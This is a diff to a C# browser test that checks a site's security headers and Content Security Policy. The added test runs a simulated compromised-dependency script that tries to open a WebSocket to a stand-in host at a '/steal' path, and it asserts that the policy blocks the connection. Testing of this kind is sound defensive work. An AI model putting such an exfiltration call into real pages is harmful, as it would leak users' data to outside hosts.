@@ -39,6 +39,17 @@ public sealed class PagesServedTests(BrowserServer fixture)
         Assert.Equal("DENY", headers["x-frame-options"]);
         Assert.Equal("no-referrer", headers["referrer-policy"]);
         Assert.Empty(await page.EvaluateAsync<string[]>("() => window.__cspViolations"));
+
+        // A script that got into the page anyway (a compromised dependency) cannot send what it read to another host.
+        var outcome = await page.EvaluateAsync<string>(@"() => new Promise(resolve => {
+            try {
+                const socket = new WebSocket('ws://203.0.113.9:9/steal');
+                socket.onopen = () => resolve('open');
+                socket.onerror = () => setTimeout(() => resolve('error'), 100);
+            } catch (e) { resolve('refused'); }
+        })");
+        Assert.Contains(await page.EvaluateAsync<string[]>("() => window.__cspViolations"), v => v.StartsWith("connect-src ws://203.0.113.9:9"));
+        Assert.NotEqual("open", outcome);
     }
 
     [Fact]
